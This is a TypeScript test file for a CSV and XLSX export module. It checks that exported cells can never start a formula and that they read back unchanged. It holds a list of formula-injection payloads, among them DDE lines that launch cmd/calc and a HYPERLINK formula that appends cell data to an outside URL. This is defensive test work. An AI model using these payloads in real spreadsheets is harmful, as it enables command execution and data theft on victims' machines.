// Formula injection (reliability F36; OWASP ASVS 5.0.0 1.2.10; CVE-2021-25960, CVE-2020-15301, CVE-2026-78209): what leaves as a file is no
// formula in any program, people can read it, and our own import reads back what was there.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { readTable } from './read-table.ts';
import { neutral, plain, type Rows, writeSeparated, writeWorkbook } from './write-table.ts';

const payloads = [
  '=1+1',
  '+SUM(A1)',
  '-2+3+cmd|x',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\u00a0=1',
  '＝1+1',
  '＋1+x',
  '－1-x',
  '＠x',
  "=cmd|' /C calc'!A0",
  'DDE;=DDE("cmd";"/C calc";"x")',
  'a\n=HYPERLINK("http://x?"&A1,"看")',
  '甲;=1+1;乙',
  '"=1+1',
  '%0A=1',
  '=HYPERLINK("http://x")',
  '-@x',
  '+-1+A1',
  '|x',
];
const readable = [
  '+86 138-0000-0000',
  '-12.5',
  '普通',
  '',
  '12',
  'a=b',
  '+8613800000000',
  '一、\n- 二\n- 三',
  '上午;下午',
];
/** Such as somebody typed who knows spreadsheets. */
const quoted = ["'=1+1", "''=1", "'引用'", "it's", "甲;'=1"];

let folder = '';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'weixi-written-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function written(name: string, content: AsyncIterable<string | Uint8Array>): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of content) parts.push(Buffer.from(part));
  const path = join(folder, name);
  await writeFile(path, Buffer.concat(parts));
  return path;
}

async function readBack(path: string): Promise<string[][]> {
  const { rows } = await readTable(path);
  const all: string[][] = [];
  for await (const { cells } of rows) all.push(cells.map((value) => plain(String(value ?? ''))));
  return all;
}

const rows: Rows = [['内容', '旁边'], ...[...payloads, ...readable, ...quoted].map((value) => [value, '旁'])];
/** Spreadsheets and XML know one line break. */
const lines = (text: string): string => text.replace(/\r\n?/g, '\n');

describe('a text file', () => {
  it('has no cell that begins a formula, whatever separates them', async () => {
    const text = (await readFile(await written('out.csv', writeSeparated(rows)), 'utf8')).slice(1);
    for (const separator of [/,/, /;/, /\t/, /[,;\t]/])
      for (const line of text.split(/\r\n|\n|\r/))
        for (const cell of line.split(separator)) {
          const bare = cell.replace(/^"/, '').replace(/""/g, '"');
          const isNumber = /^[+-][\d\s()-]*[\d)]([.,]\d+)?(["]|,旁|$)/.test(bare);
          const isBullet = /^- /.test(bare);
          if (!isNumber && !isBullet) expect(bare).not.toMatch(/^[\s\u00a0]*[=+\-@＝＋－＠]/);
        }
  });

  it('reads back as it was', async () => {
    const [, ...read] = await readBack(await written('back.csv', writeSeparated(rows)));
    expect(read.map(([value]) => value)).toEqual([...payloads, ...readable, ...quoted]);
  });
});

it('leaves as text in few pieces, however many its rows are', async () => {
  const many = Array.from({ length: 10_000 }, (_, place) => [`第 ${place} 行`, '=1+1', '甲,乙']);
  const pieces: string[] = [];
  for await (const piece of writeSeparated(many)) pieces.push(piece);
  expect(pieces.length).toBeLessThan(15);
  expect(pieces.join('')).toBe(`\ufeff${many.map(([first]) => `${first},'=1+1,"甲,乙"\r\n`).join('')}`);
});

describe('a workbook', () => {
  it('has no formula, and keeps cells text when somebody edits them', async () => {
    const path = await written('out.xlsx', writeWorkbook(rows, '表'));
    const sheet = await partOf(path, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toContain('<f>');
    expect(sheet).not.toMatch(/<c [^>]*t="(str|n|b)"/);
    const styles = await partOf(path, 'xl/styles.xml');
    expect(styles).toMatch(/numFmtId="49"|formatCode="@"/);
  });

  it('reads back as it was', async () => {
    const [, ...read] = await readBack(await written('back.xlsx', writeWorkbook(rows, '表')));
    expect(read.map(([value]) => lines(value ?? ''))).toEqual([...payloads, ...readable, ...quoted].map(lines));
  });
});

async function partOf(path: string, name: string): Promise<string> {
  const zip = await yauzl.openPromise(path);
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName !== name) continue;
    const pieces: Buffer[] = [];
    for await (const piece of await zip.openReadStreamPromise(entry)) pieces.push(piece as Buffer);
    zip.close();
    return Buffer.concat(pieces).toString('utf8');
  }
  throw new Error(`${path} has no ${name}`);
}

it('marks nothing that is no formula', () => {
  for (const value of readable) expect(neutral(value)).toBe(value);
});

it('takes off exactly what it put on, of any text', () => {
  const text = fc.string({
    unit: fc.constantFrom("'", '=', '+', '-', '@', ';', '\t', '\n', '\r', ' ', '1', 'a', '＝', '"', ','),
  });
  fc.assert(
    fc.property(text, (value) => plain(neutral(value)) === value),
    { numRuns: 20_000 },
  );
  fc.assert(fc.property(fc.string({ unit: 'grapheme' }), (value) => plain(neutral(value)) === value));
});
